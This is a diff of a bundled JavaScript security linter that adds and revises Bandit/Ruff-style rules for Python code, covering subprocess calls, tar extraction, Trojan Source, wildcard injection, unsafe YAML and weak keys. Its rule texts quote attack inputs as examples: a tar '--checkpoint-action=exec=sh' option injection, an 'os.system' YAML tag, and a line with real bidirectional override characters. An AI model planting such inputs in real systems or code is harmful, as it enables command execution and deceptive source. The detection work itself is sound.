-    example: 'from django.utils.safestring import mark_safe\n\nreturn mark_safe("<b>%s</b>" % comment.text)',
-    fix: 'Use `django.utils.html.format_html("<b>{}</b>", comment.text)`, which escapes the arguments, and keep `mark_safe` for literals.',
-    notReported: ['Literal strings: they contain nothing from outside the program.', 'Ruff has no separate code for this check: its `S308` (`django-mark-safe-call`) covers every `mark_safe` call.'],
+exports.subprocessWithoutShell = (0, common_1.callRule)({
+    id: 'subprocess-without-shell', name: 'SubprocessWithoutShell', bandit: 'B603', ruff: 'S603', severity: 'LOW', confidence: 'HIGH',
+    category: 'injection', cwe: [78], functions: apis_1.SUBPROCESS_FUNCTIONS,
+    check: (call, model) => {
+        if ((0, commands_1.trueShell)(call))
+            return false;
+        const command = (0, arguments_1.argumentAt)(call.node, 0, 'args');
+        return !command || !isTrustedCommand(command, model);
+    },
+    message: (call) => `${(0, common_1.callName)(call)} starts a process: check that what it runs cannot come from outside input`,
+    short: 'subprocess call without a shell: check the program and arguments',
+    full: 'A subprocess function is called without shell=True. No shell interprets the command, but the program and its arguments still deserve review if any come from outside the program.',
+    title: 'A `subprocess` call (no shell)',
+    why: 'Without a shell there is no shell injection, but a program name or an argument that comes from outside the program can still pick which program runs, or add options to it (`--output=/etc/...`).',
+    example: 'import subprocess\n\nsubprocess.run([tool, user_arg])',
+    fix: 'Use fixed program paths, validate arguments, and put `--` before arguments that must not be read as options. Dismiss the alert once reviewed.',
+    fixed: 'import subprocess\n\nsubprocess.run(["/usr/bin/git", "status", "--porcelain"])',
+    notReported: ['Calls with a true constant `shell=`: those are `subprocess-shell-true` (B602).', 'Commands that are literals (a string, or a list or tuple of strings, where `sys.executable` also counts as a literal): nothing outside the program reaches them (Ruff does the same; Bandit reports them). A literal program name that is not an absolute path is `start-process-with-partial-path`.'],
 });
-exports.markupsafeMarkupXss = (0, common_1.callRule)({
+
+
+/***/ }),
+
+/***/ 5120:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.tarfileUnsafeMembers = void 0;
+/** Bandit B202 / Ruff S202: `extractall()` without a safe filter, in a file that imports tarfile. */
+const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+exports.tarfileUnsafeMembers = (0, common_1.securityRule)({
+    id: 'tarfile-unsafe-members', name: 'TarfileUnsafeMembers', bandit: 'B202', ruff: 'S202', severity: 'HIGH', confidence: 'HIGH',
+    category: 'files', cwe: [22],
+    short: 'tarfile extractall() without a safe filter (path traversal)',
+    full: 'An extractall() call without filter="data" (or "tar"). Archive members named ../x or /etc/x, or symlinks, can write files anywhere the process can.',
+    title: '`tarfile` `extractall()` without a safe filter',
+    why: 'Tar members can have absolute names, `..` components, or be links pointing outside the target directory. Extracting an untrusted archive without a filter writes where the archive says (path traversal).',
+    example: 'import tarfile\n\nwith tarfile.open(upload) as tar:\n    tar.extractall("out")',
+    fix: 'Pass `filter="data"` (Python 3.12+, backported to security releases), or check each member before extracting it.',
+    fixed: 'import tarfile\n\nwith tarfile.open(upload) as tar:\n    tar.extractall("out", filter="data")',
+    notReported: ['Files that do not import `tarfile` (as in Bandit and Ruff).', 'Calls with `filter="data"` or `filter="tar"`.', 'Bandit lowers the severity when `members=` is given by a function; this rule keeps the higher severity (high) for every case it reports.'],
+    uses: [calls_1.calls],
+    create(context) {
+        const imports = (0, common_1.importsModule)('tarfile');
+        return {
+            ...imports.visitor,
+            end() {
+                if (!imports.seen())
+                    return;
+                for (const call of context.analysis(calls_1.calls).calls) {
+                    if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'extractall')
+                        continue;
+                    const filter = (0, arguments_1.keywordValue)(call.node, 'filter');
+                    const value = filter ? (0, literals_1.stringLiteralValue)(filter) : undefined;
+                    if (value === 'data' || value === 'tar')
+                        continue;
+                    context.report(call.callee, '`extractall()` without `filter="data"` can write outside the target directory');
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 3780:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.trojanSource = void 0;
+/** Bandit B613 (no Ruff code): a bidirectional control character in the source (Trojan Source). */
+const common_1 = __nccwpck_require__(8925);
+/** Bidirectional control characters used in Trojan Source attacks. */
+const BIDI = /[\u202a-\u202e\u2066-\u2069\u200f]/g;
+exports.trojanSource = (0, common_1.securityRule)({
+    id: 'trojan-source', name: 'TrojanSource', bandit: 'B613', severity: 'HIGH', confidence: 'MEDIUM',
+    category: 'injection', cwe: [838],
+    short: 'bidirectional Unicode control character in source (Trojan Source)',
+    full: 'The file contains a Unicode bidirectional control character (LRE, RLE, PDF, LRO, RLO, LRI, RLI, FSI, PDI or RLM). Such characters reorder how code is displayed, so the code a reviewer reads can differ from the code that runs.',
+    title: 'A bidirectional control character (Trojan Source)',
+    why: 'Bidirectional overrides make editors and review tools show text in a different order than the compiler reads it. A comment can appear to close before code that is in fact inside it, or a string can seem to end early (CVE-2021-42574).',
+    example: '# the line looks like a harmless comparison, but an RLO character reverses part of it\nif access_level != "user\u202e \u2066# Check if admin\u2069 \u2066":',
+    fix: 'Remove the character; if right-to-left text is needed in a string, write it with `\\u` escapes.',
+    fixed: 'if access_level != "user":  # Check if admin',
+    notReported: ['Characters written as escapes (`"\\u202e"`): they are not in the file\'s text.', 'Other invisible characters (zero-width spaces, homoglyphs).'],
+    create(context) {
+        return {
+            end() {
+                const text = context.text;
+                for (const match of text.matchAll(BIDI)) {
+                    const index = match.index;
+                    const before = text.lastIndexOf('\n', index - 1);
+                    const row = (text.slice(0, index).match(/\n/g) ?? []).length;
+                    const column = index - before - 1;
+                    const code = match[0].codePointAt(0).toString(16).toUpperCase().padStart(4, '0');
+                    context.reportRange({ row, column }, { row, column: column + 1 }, `bidirectional control character U+${code}: the code shown may differ from the code that runs`);
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 5451:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.tryExceptContinue = void 0;
+/** Bandit B112 / Ruff S112: an `except` that catches everything and only does `continue`. */
+const broad_except_1 = __nccwpck_require__(2510);
+const common_1 = __nccwpck_require__(8925);
+exports.tryExceptContinue = (0, common_1.securityRule)({
+    id: 'try-except-continue', name: 'TryExceptContinue', bandit: 'B112', ruff: 'S112',
+    severity: 'LOW', confidence: 'HIGH', category: 'reliability', cwe: [703],
+    short: '`except` that only `continue`es: errors are silently ignored',
+    full: 'A bare except (or except Exception / BaseException) whose body is only `continue`. Every error, including unexpected ones, is swallowed without a trace, which hides failures and attacks alike.',
+    title: '`try`/`except`/`continue`',
+    why: 'An `except` clause that catches everything and only does `continue` makes failures invisible: a broken configuration, a denied permission or a tampered input produce no log and no error, and the program moves on to the next item in a state nobody checked.',
+    example: 'for item in items:\n    try:\n        process(item)\n    except:\n        continue',
+    fix: broad_except_1.BROAD_EXCEPT_FIX,
+    fixed: 'for item in items:\n    try:\n        process(item)\n    except ValueError:\n        logger.exception("skipping an invalid item")\n        continue',
+    notReported: [
+        'Handlers for specific exception types (`except KeyError: continue`): only bare `except:`, `except Exception` and `except BaseException` (alone or in a tuple) are reported, as in Bandit\'s and Ruff\'s default settings.',
+        'Handlers whose body does anything besides `continue` (a log call, a comment and `continue` counts as only `continue`).',
+    ],
+    ...(0, broad_except_1.broadExceptOnly)('continue'),
+});
+
+
+/***/ }),
+
+/***/ 7191:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.tryExceptPass = void 0;
+/** Bandit B110 / Ruff S110: an `except` that catches everything and only does `pass`. */
+const broad_except_1 = __nccwpck_require__(2510);
+const common_1 = __nccwpck_require__(8925);
+exports.tryExceptPass = (0, common_1.securityRule)({
+    id: 'try-except-pass', name: 'TryExceptPass', bandit: 'B110', ruff: 'S110',
+    severity: 'LOW', confidence: 'HIGH', category: 'reliability', cwe: [703],
+    short: '`except` that only `pass`es: errors are silently ignored',
+    full: 'A bare except (or except Exception / BaseException) whose body is only `pass`. Every error, including unexpected ones, is swallowed without a trace, which hides failures and attacks alike.',
+    title: '`try`/`except`/`pass`',
+    why: 'An `except` clause that catches everything and only does `pass` makes failures invisible: a broken configuration, a denied permission or a tampered input produce no log and no error, and the program carries on in a state nobody checked.',
+    example: 'try:\n    verify_signature(payload)\nexcept Exception:\n    pass',
+    fix: broad_except_1.BROAD_EXCEPT_FIX,
+    fixed: 'try:\n    verify_signature(payload)\nexcept InvalidSignature:\n    logger.warning("rejected a payload with a bad signature")\n    raise',
+    notReported: [
+        'Handlers for specific exception types (`except KeyError: pass`): only bare `except:`, `except Exception` and `except BaseException` (alone or in a tuple) are reported, as in Bandit\'s and Ruff\'s default settings.',
+        'Handlers whose body does anything besides `pass` (a log call, a comment and `pass` counts as only `pass`).',
+    ],
+    ...(0, broad_except_1.broadExceptOnly)('pass'),
+});
+
+
+/***/ }),
+
+/***/ 6997:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.unixCommandWildcardInjection = void 0;
+/** Bandit B609 / Ruff S609: a wildcard in a shell command for chown/chmod/tar/rsync (option injection). */
+const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+const apis_1 = __nccwpck_require__(1813);
+const commands_1 = __nccwpck_require__(2962);
+const WILDCARD_COMMANDS = /^\s*(?:\S*\/)?(chown|chmod|tar|rsync)\b/;
+function wildcardCommand(call) {
+    const command = (0, arguments_1.argumentAt)(call.node, 0, 'args');
+    if (!command)
+        return false;
+    const expr = (0, literals_1.unparenthesize)(command);
+    let text;
+    if (expr.type === 'list' || expr.type === 'tuple') {
+        const items = expr.namedChildren.filter((c) => c && c.type !== 'comment').map((c) => (0, literals_1.stringLiteralValue)(c));
+        if (items.some((i) => i === undefined))
+            return false;
+        text = items.join(' ');
+    }
+    else
+        text = (0, literals_1.stringLiteralValue)(expr);
+    return text !== undefined && text.includes('*') && WILDCARD_COMMANDS.test(text);
+}
+exports.unixCommandWildcardInjection = (0, common_1.securityRule)({
+    id: 'unix-command-wildcard-injection', name: 'UnixCommandWildcardInjection', bandit: 'B609', ruff: 'S609', severity: 'HIGH', confidence: 'MEDIUM',
+    category: 'injection', cwe: [155],
+    short: 'wildcard in a shell command for chown, chmod, tar or rsync',
+    full: 'A shell command runs chown, chmod, tar or rsync with a * wildcard. The shell expands the wildcard into file names, and a file named like an option (--checkpoint-action=..., --reference=...) becomes an option of the command.',
+    title: 'Wildcard injection in a shell command',
+    why: 'The shell expands `*` into the names of the files present. Anyone who can create a file in that directory can name it `--checkpoint-action=exec=sh evil.sh` (tar) or `--reference=mine` (chown/chmod), and the command reads it as an option.',
+    example: 'import os\n\nos.system("tar cf backup.tar *")',
+    fix: 'Put `--` before the file list (`tar cf backup.tar -- *`), or build the file list in Python (`glob.glob`) and pass it as arguments without a shell.',
+    fixed: 'import glob\nimport subprocess\n\nsubprocess.run(["tar", "cf", "backup.tar", "--", *glob.glob("*")])',
+    notReported: ['Commands built at run time (not literals).', 'Calls without a shell (a `subprocess` call without `shell=True`).'],
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                const model = context.analysis(calls_1.calls);
+                for (const call of model.callsToAssumed([...apis_1.SHELL_FUNCTIONS, ...apis_1.SUBPROCESS_FUNCTIONS])) {
+                    if (apis_1.SUBPROCESS_FUNCTIONS.includes(call.assumedName) && !(0, commands_1.trueShell)(call))
+                        continue;
+                    if (wildcardCommand(call))
+                        context.report(call.callee, `${(0, common_1.callName)(call)} runs a command with a wildcard that file names can turn into options`);
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 4429:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.unsafeMarkupUse = void 0;
+/** Bandit B704 / Ruff S704: MarkupSafe's `Markup` applied to a value that is not a literal. */
+const common_1 = __nccwpck_require__(8925);
+const markup_1 = __nccwpck_require__(655);
+exports.unsafeMarkupUse = (0, common_1.callRule)({
     id: 'unsafe-markup-use', name: 'UnsafeMarkupUse', bandit: 'B704', ruff: 'S704', severity: 'MEDIUM', confidence: 'HIGH',
     category: 'xss', cwe: [79], functions: ['markupsafe.Markup', 'flask.Markup'],
-    check: notLiteral,
+    check: markup_1.marksNonLiteral,
     message: (call) => `${(0, common_1.callName)(call)} applied to a value that is not a literal: anything in it reaches the page unescaped`,
     short: 'markupsafe Markup applied to a value that is not a literal',
     full: 'Markup marks a string as safe HTML; when the string is built at run time, user input in it reaches the page unescaped (XSS).',
@@ -11584,117 +12996,8 @@ exports.markupsafeMarkupXss = (0, common_1.callRule)({
     why: 'Jinja2 and Flask do not escape a `Markup` object. If a user-controlled value was formatted into it, its markup and scripts reach the page.',
     example: 'from markupsafe import Markup\n\nhtml = Markup(f"<b>{username}</b>")',
     fix: 'Escape the values: `Markup("<b>{}</b>").format(username)` or `markupsafe.escape(username)`.',
+    fixed: 'from markupsafe import Markup\n\nhtml = Markup("<b>{}</b>").format(username)',
     notReported: ['Literal strings.'],
-});
-
-
-/***/ }),
-
-/***/ 7003:
-/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
-
-
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.sslWithNoVersion = exports.sslInsecureVersionDefault = exports.sslInsecureVersion = exports.requestWithoutCertValidation = void 0;
-const calls_1 = __nccwpck_require__(4463);
-const common_1 = __nccwpck_require__(8925);
-const general_1 = __nccwpck_require__(9242);
-exports.requestWithoutCertValidation = (0, common_1.callRule)({
-    id: 'request-without-cert-validation', name: 'RequestWithoutCertValidation', bandit: 'B501', ruff: 'S501',
-    severity: 'HIGH', confidence: 'HIGH', category: 'tls', cwe: [295],
-    functions: [...general_1.REQUESTS_FUNCTIONS, ...general_1.HTTPX_FUNCTIONS],
-    check: (call) => {
-        const verify = (0, calls_1.keywordValue)(call.node, 'verify');
-        return verify && (0, calls_1.truthiness)(verify) === false ? (0, calls_1.keywordArgument)(call.node, 'verify') : false;
-    },
-    message: (call) => `${(0, common_1.callName)(call)} with \`verify=False\` accepts any certificate: anyone on the network path can read and change the traffic`,
-    short: 'HTTP request with certificate verification disabled (verify=False)',
-    full: 'A requests or httpx call passes verify=False, so the server\'s certificate is not checked and the connection can be intercepted by anyone on the network path.',
-    title: 'Certificate verification turned off',
-    why: 'Without certificate verification, TLS still encrypts but no longer authenticates: a machine in the middle (a hostile Wi-Fi, a compromised router, a proxy) can present its own certificate, read credentials and change responses.',
-    example: 'import requests\n\nrequests.get("https://internal.example", verify=False)',
-    fix: 'Keep verification on. For a private CA, pass its bundle: `verify="/etc/ssl/private-ca.pem"` (or set `REQUESTS_CA_BUNDLE`).',
-    notReported: ['`verify=` with a value that is not a false constant (a path, a setting).', 'Sessions configured with `session.verify = False` (attribute assignments are not tracked).'],
-});
-const BAD_PROTOCOLS = new Set([
-    'PROTOCOL_SSLv2', 'PROTOCOL_SSLv3', 'PROTOCOL_TLSv1', 'PROTOCOL_TLSv1_1',
-    'SSLv2_METHOD', 'SSLv23_METHOD', 'SSLv3_METHOD', 'TLSv1_METHOD', 'TLSv1_1_METHOD',
-]);
-/** The protocol constant's name when the node names a broken protocol (`ssl.PROTOCOL_SSLv3`, `SSLv3_METHOD`). */
-function badProtocol(node) {
-    const expr = (0, calls_1.unparenthesize)(node);
-    const name = expr.type === 'attribute' ? expr.childForFieldName('attribute')?.text : expr.type === 'identifier' ? expr.text : undefined;
-    return name && BAD_PROTOCOLS.has(name) ? name : undefined;
-}
-const PROTOCOL_WHY = 'SSL 2.0, SSL 3.0, TLS 1.0 and TLS 1.1 have known attacks (DROWN, POODLE, BEAST) and are deprecated (RFC 8996). A connection that uses them can be downgraded or decrypted.';
-exports.sslInsecureVersion = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'ssl-insecure-version', name: 'SslInsecureVersion', bandit: 'B502', ruff: 'S502', severity: 'HIGH', confidence: 'HIGH',
-        category: 'tls', cwe: [327],
-        short: 'call with a broken SSL/TLS protocol version (SSLv2, SSLv3, TLSv1, TLSv1.1)',
-        full: 'A call passes ssl_version= or method= naming SSL 2/3 or TLS 1.0/1.1, protocol versions with known attacks.',
-        title: 'A broken SSL/TLS protocol version',
-        why: PROTOCOL_WHY,
-        example: 'import ssl\n\nctx = ssl.SSLContext(ssl_version=ssl.PROTOCOL_TLSv1)',
-        fix: 'Use `ssl.create_default_context()` (or `ssl.PROTOCOL_TLS_CLIENT`), and raise `minimum_version` to `ssl.TLSVersion.TLSv1_2` if needed.',
-        notReported: ['Protocol versions passed positionally, or through variables.', 'A protocol constant as a parameter default: that is `ssl-insecure-version-default` (B503).'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            return {
-                end() {
-                    for (const call of context.analysis('calls').calls) {
-                        for (const keyword of ['ssl_version', 'method']) {
-                            const value = (0, calls_1.keywordValue)(call.node, keyword);
-                            const bad = value ? badProtocol(value) : undefined;
-                            if (bad)
-                                context.report(meta, (0, calls_1.keywordArgument)(call.node, keyword), `\`${bad}\` is a broken protocol version; use TLS 1.2 or later`);
-                        }
-                    }
-                },
-            };
-        },
-    };
-})();
-exports.sslInsecureVersionDefault = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'ssl-insecure-version-default', name: 'SslInsecureVersionDefault', bandit: 'B503', ruff: 'S503', severity: 'MEDIUM', confidence: 'MEDIUM',
-        category: 'tls', cwe: [327],
-        short: 'parameter default is a broken SSL/TLS protocol version',
-        full: 'A function parameter defaults to SSL 2/3 or TLS 1.0/1.1, so callers that do not choose a version get a broken one.',
-        title: 'A broken SSL/TLS protocol version as a default',
-        why: `${PROTOCOL_WHY} As a default, the weak version is used by every caller that does not override it.`,
-        example: 'import ssl\n\ndef connect(host, version=ssl.PROTOCOL_SSLv3):\n    ...',
-        fix: 'Default to `ssl.PROTOCOL_TLS_CLIENT` (or `None` and build a context with `ssl.create_default_context()`).',
-        notReported: ['Defaults that are not one of the broken protocol constants.'],
-    });
-    return {
-        meta,
-        create(context) {
-            const check = (node) => {
-                const value = node.childForFieldName('value');
-                const bad = value ? badProtocol(value) : undefined;
-                if (bad)
-                    context.report(meta, value, `parameter default \`${bad}\` is a broken protocol version`);
-            };
-            return { default_parameter: check, typed_default_parameter: check };
-        },
-    };
-})();
-exports.sslWithNoVersion = (0, common_1.callRule)({
-    id: 'ssl-with-no-version', name: 'SslWithNoVersion', bandit: 'B504', ruff: 'S504', severity: 'LOW', confidence: 'MEDIUM',
-    category: 'tls', cwe: [327], functions: ['ssl.wrap_socket'],
-    check: (call) => !(0, calls_1.keywordArgument)(call.node, 'ssl_version'),
-    message: (call) => `${(0, common_1.callName)(call)} without \`ssl_version=\` relies on a default that may allow old protocol versions`,
-    short: 'ssl.wrap_socket called without an explicit protocol version',
-    full: 'ssl.wrap_socket is called without ssl_version=, so the protocol depends on the Python version\'s default, which allowed broken versions in older releases. wrap_socket is also deprecated and removed in Python 3.12.',
-    title: '`ssl.wrap_socket` without a protocol version',
-    why: '`ssl.wrap_socket` takes its protocol from a default that, on older Pythons, negotiates SSL 3 or TLS 1.0. It also checks no certificate by default, and it was removed in Python 3.12.',
-    example: 'import ssl\n\nconn = ssl.wrap_socket(sock)',
-    fix: 'Use `ssl.create_default_context().wrap_socket(sock, server_hostname=host)`.',
-    notReported: ['Calls that pass `ssl_version=` (a broken version there is `ssl-insecure-version`).'],
 });
 
 
@@ -11705,83 +13008,64 @@ exports.sslWithNoVersion = (0, common_1.callRule)({
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.shortCryptographicKey = exports.weakCryptographicKey = void 0;
+exports.weakCryptographicKey = void 0;
+/**
+ * Bandit B505 / Ruff S505, HIGH: an RSA or DSA key under 1024 bits, or an EC key under 160 bits.
+ * Keys below 2048/224 bits but not below these are `short-cryptographic-key` (MEDIUM).
+ */
 const calls_1 = __nccwpck_require__(4463);
 const common_1 = __nccwpck_require__(8925);
-const HAZMAT = 'cryptography.hazmat.primitives.asymmetric';
-const FUNCTIONS = {
-    [`${HAZMAT}.dsa.generate_private_key`]: { kind: 'DSA', index: 0, keyword: 'key_size' },
-    [`${HAZMAT}.rsa.generate_private_key`]: { kind: 'RSA', index: 1, keyword: 'key_size' },
-    [`${HAZMAT}.ec.generate_private_key`]: { kind: 'EC', index: 0, keyword: 'curve' },
-    'Crypto.PublicKey.DSA.generate': { kind: 'DSA', index: 0, keyword: 'bits' },
-    'Crypto.PublicKey.RSA.generate': { kind: 'RSA', index: 0, keyword: 'bits' },
-    'Cryptodome.PublicKey.DSA.generate': { kind: 'DSA', index: 0, keyword: 'bits' },
-    'Cryptodome.PublicKey.RSA.generate': { kind: 'RSA', index: 0, keyword: 'bits' },
-};
-/** Weak elliptic curves and their sizes in bits. */
-const EC_CURVES = { SECP192R1: 192, SECT163K1: 163, SECT163R2: 163 };
-/** Bit size of the key a call asks for, when it is a constant. */
-function keyBits(call, spec, model) {
-    const arg = (0, calls_1.argumentAt)(call.node, spec.index, spec.keyword);
-    if (!arg || arg.type === 'list_splat')
-        return undefined;
-    const expr = (0, calls_1.unparenthesize)(arg);
-    if (spec.kind === 'EC') {
-        const target = expr.type === 'call' ? expr.childForFieldName('function') : expr;
-        const q = target ? model.resolveAssumed(target) : undefined;
-        const curve = q?.startsWith(`${HAZMAT}.ec.`) ? q.slice(HAZMAT.length + 4) : undefined;
-        return curve && curve in EC_CURVES ? [EC_CURVES[curve], arg] : undefined;
-    }
-    if (expr.type !== 'integer')
-        return undefined;
-    const bits = Number(expr.text.replace(/_/g, ''));
-    return Number.isFinite(bits) ? [bits, arg] : undefined;
-}
-function makeRule(high) {
-    const meta = (0, common_1.securityMeta)({
-        id: high ? 'weak-cryptographic-key' : 'short-cryptographic-key',
-        name: high ? 'WeakCryptographicKey' : 'ShortCryptographicKey',
-        bandit: 'B505', ruff: 'S505', severity: high ? 'HIGH' : 'MEDIUM', confidence: 'HIGH', category: 'cryptography', cwe: [326],
-        short: high
-            ? 'RSA/DSA key under 1024 bits or EC key under 160 bits'
-            : 'RSA/DSA key under 2048 bits or EC key under 224 bits',
-        full: high
-            ? 'A key is generated with a size that can be broken with modest resources (RSA/DSA under 1024 bits, elliptic curves under 160 bits).'
-            : 'A key is generated below today\'s minimum (RSA/DSA under 2048 bits, elliptic curves under 224 bits); such keys are within reach of well-funded attackers and rejected by current standards.',
-        title: high ? 'A breakable cryptographic key size' : 'A cryptographic key below the recommended size',
-        why: 'The strength of RSA, DSA and elliptic-curve keys depends on their size. NIST and most standards require at least 2048 bits for RSA/DSA and 224 bits for elliptic curves; smaller keys can be factored or solved, exposing everything they sign or protect.',
-        example: high
-            ? 'from cryptography.hazmat.primitives.asymmetric import rsa\n\nkey = rsa.generate_private_key(public_exponent=65537, key_size=512)'
-            : 'from cryptography.hazmat.primitives.asymmetric import dsa\n\nkey = dsa.generate_private_key(key_size=1024)',
-        fix: 'Use RSA 3072 (at least 2048) bits, or an elliptic curve such as `ec.SECP256R1()` or Ed25519.',
-        notReported: ['Key sizes that are not integer literals (variables, settings).', high ? 'Sizes between the two thresholds: `short-cryptographic-key`.' : 'Sizes below 1024 bits (160 for EC): `weak-cryptographic-key`.'],
-        note: '## Why two rules\n\nBandit grades B505 high below 1024 bits (160 for elliptic curves) and medium below 2048 (224). Tendril reports the two bands as `weak-cryptographic-key` (high) and `short-cryptographic-key` (medium); both answer to `B505` and `S505`.',
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            return {
-                end() {
-                    const model = context.analysis('calls');
-                    for (const call of model.callsToAssumed(Object.keys(FUNCTIONS))) {
-                        const spec = FUNCTIONS[call.assumedName];
-                        const found = keyBits(call, spec, model);
-                        if (!found)
-                            continue;
-                        const [bits, at] = found;
-                        const [hi, med] = spec.kind === 'EC' ? [160, 224] : [1024, 2048];
-                        if (high ? bits >= hi : bits < hi || bits >= med)
-                            continue;
-                        context.report(meta, at, `${(0, common_1.callName)(call)} generates a ${bits}-bit ${spec.kind} key; use at least ${med} bits`);
-                    }
-                },
-            };
-        },
-    };
-}
-exports.weakCryptographicKey = makeRule(true);
-exports.shortCryptographicKey = makeRule(false);
+const key_sizes_1 = __nccwpck_require__(7538);
+exports.weakCryptographicKey = (0, common_1.securityRule)({
+    id: 'weak-cryptographic-key', name: 'WeakCryptographicKey',
+    bandit: 'B505', ruff: 'S505', severity: 'HIGH', confidence: 'HIGH', category: 'cryptography', cwe: [326],
+    short: 'RSA/DSA key under 1024 bits or EC key under 160 bits',
+    full: 'A key is generated with a size that can be broken with modest resources (RSA/DSA under 1024 bits, elliptic curves under 160 bits).',
+    title: 'A breakable cryptographic key size',
+    why: 'The strength of RSA, DSA and elliptic-curve keys depends on their size. NIST and most standards require at least 2048 bits for RSA/DSA and 224 bits for elliptic curves; smaller keys can be factored or solved, exposing everything they sign or protect.',
+    example: 'from cryptography.hazmat.primitives.asymmetric import rsa\n\nkey = rsa.generate_private_key(public_exponent=65537, key_size=512)',
+    fix: 'Use RSA 3072 (at least 2048) bits, or an elliptic curve such as `ec.SECP256R1()` or Ed25519.',
+    fixed: 'from cryptography.hazmat.primitives.asymmetric import rsa\n\nkey = rsa.generate_private_key(public_exponent=65537, key_size=3072)',
+    notReported: ['Key sizes that are not integer literals (variables, settings).', 'Sizes between the two thresholds: `short-cryptographic-key`.'],
+    note: '## Why two rules\n\nBandit grades B505 high below 1024 bits (160 for elliptic curves) and medium below 2048 (224). Tendril reports the two bands as `weak-cryptographic-key` (high) and `short-cryptographic-key` (medium); both answer to `B505` and `S505`.',
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                for (const key of (0, key_sizes_1.generatedKeys)(context.analysis(calls_1.calls))) {
+                    if (key.bits >= key.breakableBelow)
+                        continue;
+                    context.report(key.at, `${(0, common_1.callName)(key.call)} generates a ${key.bits}-bit ${key.kind} key; use at least ${key.recommended} bits`);
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 6455:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.worldWritableFilePermissions = void 0;
+/** Bandit B103 / Ruff S103, high severity: `os.chmod` with a constant mode that makes the file world-writable. */
+const common_1 = __nccwpck_require__(8925);
+const file_modes_1 = __nccwpck_require__(7927);
+exports.worldWritableFilePermissions = (0, common_1.securityRule)({
+    ...file_modes_1.CHMOD_SPEC,
+    id: 'world-writable-file-permissions', name: 'WorldWritableFilePermissions', severity: 'HIGH',
+    short: 'os.chmod makes a file world-writable',
+    full: 'os.chmod is called with a constant mode that lets every user of the machine write the file: anyone can replace its contents.',
+    title: 'A world-writable file mode',
+    why: 'A mode with the "others write" bit (`0o002`, as in `0o777` or `0o666`) lets every local user modify the file. If the program later reads, imports or executes it, another user controls what it does.',
+    example: 'import os\n\nos.chmod("deploy.sh", 0o777)',
+    fixed: 'import os\n\nos.chmod("deploy.sh", 0o700)',
+    notReported: [...file_modes_1.CHMOD_NOT_REPORTED, 'Modes without the others-write bit.'],
+    ...(0, file_modes_1.chmodModes)(file_modes_1.worldWritable, 'writable by every user'),
+});
 
 
 /***/ }),
@@ -11792,17 +13076,13 @@ exports.shortCryptographicKey = makeRule(false);
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.yamlUnsafeLoad = void 0;
-/**
- * Bandit B506 / Ruff S506: `yaml.load` without a safe loader. `Loader=` (or the second positional
- * argument) resolving to `yaml.SafeLoader` or `yaml.CSafeLoader` makes the call safe.
- */
-const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
 const common_1 = __nccwpck_require__(8925);
 const SAFE = new Set([
     'yaml.SafeLoader', 'yaml.CSafeLoader', 'yaml.loader.SafeLoader', 'yaml.cyaml.CSafeLoader',
 ]);
 function unsafe(call, model) {
-    const loader = (0, calls_1.argumentAt)(call.node, 1, 'Loader');
+    const loader = (0, arguments_1.argumentAt)(call.node, 1, 'Loader');
     if (!loader)
         return true;
     if (loader.type === 'list_splat')
@@ -11821,6 +13101,7 @@ exports.yamlUnsafeLoad = (0, common_1.callRule)({
     why: 'YAML tags such as `!!python/object/apply:os.system` ask PyYAML to build Python objects and call functions. With any loader other than the safe ones, a YAML document from outside the program can run code.',
     example: 'import yaml\n\nconfig = yaml.load(stream, Loader=yaml.Loader)',
     fix: 'Use `yaml.safe_load(stream)` or `yaml.load(stream, Loader=yaml.SafeLoader)` (`CSafeLoader` for speed).',
+    fixed: 'import yaml\n\nconfig = yaml.safe_load(stream)',
     notReported: ['`Loader=` resolving to `yaml.SafeLoader` or `yaml.CSafeLoader`.', '`yaml.safe_load` and `yaml.load` with `*args`.'],
 });
 
@@ -11861,23 +13142,7 @@ function bandOf(score) {
 
 /***/ }),
 
-/***/ 3182:
-/***/ ((__unused_webpack_module, exports) => {
-
-
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.ruleLevel = ruleLevel;
-/** SARIF level derived from the metadata: security error/warning by severity, maintainability always note. */
-function ruleLevel(meta) {
-    if (meta.kind === 'maintainability')
-        return 'note';
-    return (meta.securitySeverity ?? 0) >= 7 ? 'error' : 'warning';
-}
-
-
